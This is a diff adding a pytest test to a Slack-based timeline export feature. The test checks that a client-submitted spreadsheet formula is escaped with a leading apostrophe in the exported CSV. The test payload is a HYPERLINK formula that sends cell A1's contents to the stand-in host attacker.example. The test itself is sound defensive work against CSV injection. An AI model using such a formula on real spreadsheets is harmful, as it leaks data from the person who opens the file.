@@ -151,6 +151,20 @@ def test_csv_has_a_row_per_timeline_entry(case: SandboxStack) -> None:
     assert {"true"} == {row["confidential"] for row in rows if row["text"] == SECRET}
 
 
+def test_a_client_s_formula_stays_text_when_the_lead_opens_the_csv(case: SandboxStack) -> None:
+    formula = '=HYPERLINK("http://attacker.example/?q="&A1,"click for details")'
+    case.slack.slash_command("UCARLA", CHANNEL, formula)
+    case.settle()
+
+    _export(case, "export csv")
+
+    [(_, table)] = _sent_to_ana(case)
+    rows = list(csv.DictReader(io.StringIO(table.content.decode("utf-8"))))
+    cells = [cell for row in rows for cell in row.values()]
+    assert "'" + formula in cells  # shown as typed, prefixed so no spreadsheet runs it
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
 @pytest.mark.parametrize("text", ["export pdf", "export everything"])
 def test_an_unknown_format_gets_the_usage_and_nothing_is_sent(
     case: SandboxStack, text: str
